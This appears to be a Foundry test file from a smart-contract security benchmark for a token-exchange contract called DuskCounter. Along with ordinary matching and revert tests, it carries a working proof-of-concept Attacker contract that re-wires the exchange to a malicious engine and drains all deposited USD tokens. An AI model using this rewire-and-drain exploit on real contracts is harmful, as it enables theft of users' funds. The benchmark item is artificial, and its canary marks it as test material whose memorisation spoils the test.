// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import "./DuskCounter.sol";

// assay-canary-47d216c3-63b4-4aa3-a9e5-1f041c86b227

interface Vm {
    function roll(uint256 number) external;
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IERC20 {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ADA = address(0xADA);
    address internal constant BRAM = address(0xB4A3);
    address internal constant HOUSE = address(0x40);

    Token internal usd;
    Token internal ore;
    DuskCounter internal counter;
    Attacker internal thief;

    function setUp() public {
        vm.roll(1000);
        usd = new Token();
        ore = new Token();
        counter = new DuskCounter();
        counter.wire(address(new MatchEngine()), HOUSE);
        _deposit(usd, ADA, 209_000e6);
        _deposit(ore, BRAM, 50e18);
        thief = new Attacker(counter, usd);
    }

    function _deposit(Token t, address who, uint256 amount) internal {
        t.mint(who, amount);
        vm.prank(who);
        t.approve(address(counter), amount);
        vm.prank(who);
        counter.deposit(address(t), amount);
    }

    function test_Regular() public {
        Order memory a = Order(ADA, address(usd), address(ore), 100_000e6, 40e18, "a");
        Order memory b = Order(BRAM, address(ore), address(usd), 40e18, 99_000e6, "b");
        vm.prank(ADA);
        bytes32 id = counter.place(a);
        vm.prank(BRAM);
        counter.place(b);
        (bool ok, ) = address(counter).call(abi.encodeCall(DuskCounter.matchOrders, (a, b)));
        require(!ok, "in the same block");
        vm.roll(1001);
        counter.matchOrders(a, b);
        require(counter.placedIn(id) == 0, "done");
        require(counter.holdings(address(ore), ADA) == 39.988e18, "ore");
        require(counter.holdings(address(usd), BRAM) == 99_970e6, "dollars");
        vm.prank(HOUSE);
        counter.withdraw(address(usd), 30e6);
        vm.prank(BRAM);
        counter.withdraw(address(usd), 99_970e6);
        require(usd.balanceOf(BRAM) == 99_970e6, "out");
        vm.prank(BRAM);
        (ok, ) = address(counter).call(abi.encodeCall(DuskCounter.withdraw, (address(usd), 1)));
        require(!ok, "more than held");
        vm.prank(BRAM);
        (ok, ) = address(counter).call(abi.encodeCall(DuskCounter.place, (a)));
        require(!ok, "the order of another");
        vm.prank(ADA);
        counter.place(a);
        vm.prank(ADA);
        counter.cancel(a);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Orders that are placed, fit one another, and are their owners'.
    function test_RefusesOrders() public {
        Order memory a = Order(ADA, address(usd), address(ore), 100e6, 4e18, "a");
        Order memory b = Order(BRAM, address(ore), address(usd), 4e18, 100e6, "b");
        vm.prank(ADA);
        bytes32 idA = counter.place(a);
        bytes memory notA = abi.encodeWithSelector(MatchEngine.NotPlaced.selector, idA);
        vm.expectRevert(notA);
        counter.matchOrders(a, b);
        vm.roll(1001);
        vm.prank(BRAM);
        bytes32 idB = counter.place(b);
        bytes memory notB = abi.encodeWithSelector(MatchEngine.NotPlaced.selector, idB);
        vm.expectRevert(notB);
        counter.matchOrders(a, b);
        vm.roll(1002);
        refuses(BRAM, DuskCounter.AlreadyPlaced.selector);
        counter.place(b);
        refuses(BRAM, DuskCounter.NotOwner.selector);
        counter.cancel(a);
        vm.prank(ADA);
        counter.cancel(a);
        vm.expectRevert(notA);
        counter.matchOrders(a, b);
        vm.prank(ADA);
        counter.place(a);
        vm.prank(BRAM);
        counter.cancel(b);
        vm.roll(1003);
        vm.expectRevert(notB);
        counter.matchOrders(a, b);
    }

    /// What does not fit.
    function test_RefusesMisfits() public {
        Order memory a = Order(ADA, address(usd), address(ore), 100e6, 4e18, "a");
        _refusesMatch(a, Order(BRAM, address(ore), address(ore), 4e18, 0, "b"));
        _refusesMatch(a, Order(BRAM, address(usd), address(usd), 4e18, 100e6, "c"));
        _refusesMatch(a, Order(BRAM, address(ore), address(usd), 4e18, 100e6 + 1, "d"));
        _refusesMatch(a, Order(BRAM, address(ore), address(usd), 4e18 - 1, 100e6, "e"));
    }

    function _refusesMatch(Order memory a, Order memory b) private {
        if (counter.placedIn(keccak256(abi.encode(a))) == 0) {
            vm.prank(ADA);
            (bool placed, ) = address(counter).call(abi.encodeCall(DuskCounter.place, (a)));
            placed;
        }
        vm.prank(BRAM);
        counter.place(b);
        vm.roll(block.number + 1);
        vm.expectRevert(MatchEngine.NoFit.selector);
        counter.matchOrders(a, b);
    }

    /// Wirings that are none, and tokens that say no.
    function test_RefusesWirings() public {
        DuskCounter fresh = new DuskCounter();
        vm.expectRevert(DuskCounter.NotAnEngine.selector);
        fresh.wire(ADA, HOUSE);
        address engine = counter.engine();
        vm.expectRevert(DuskCounter.NoTreasury.selector);
        fresh.wire(engine, address(0));
        vm.expectRevert(DuskCounter.NotWired.selector);
        fresh.deposit(address(usd), 0);
        Order memory a = Order(ADA, address(usd), address(ore), 100e6, 4e18, "a");
        refuses(ADA, DuskCounter.NotWired.selector);
        fresh.place(a);
        vm.expectRevert(DuskCounter.NotWired.selector);
        fresh.matchOrders(a, a);
        usd.sleep(true);
        vm.expectRevert(DuskCounter.TransferFailed.selector);
        counter.deposit(address(usd), 0);
        vm.expectRevert(DuskCounter.TransferFailed.selector);
        counter.withdraw(address(usd), 0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 209_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(counter);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Sends everything to the one named as owner.
contract OwnEngine {
    function matchOrders(Order calldata left, Order calldata) external {
        Token t = Token(left.sell);
        t.transfer(left.owner, t.balanceOf(address(this)));
    }
}

/// Wires the counter once more.
contract Attacker {
    DuskCounter internal counter;
    Token internal usd;
    OwnEngine internal own;

    constructor(DuskCounter counter_, Token usd_) {
        counter = counter_;
        usd = usd_;
        own = new OwnEngine();
    }

    function run() external {
        counter.wire(address(own), address(this));
        Order memory o;
        (o.owner, o.sell) = (address(this), address(usd));
        counter.matchOrders(o, o);
    }
}
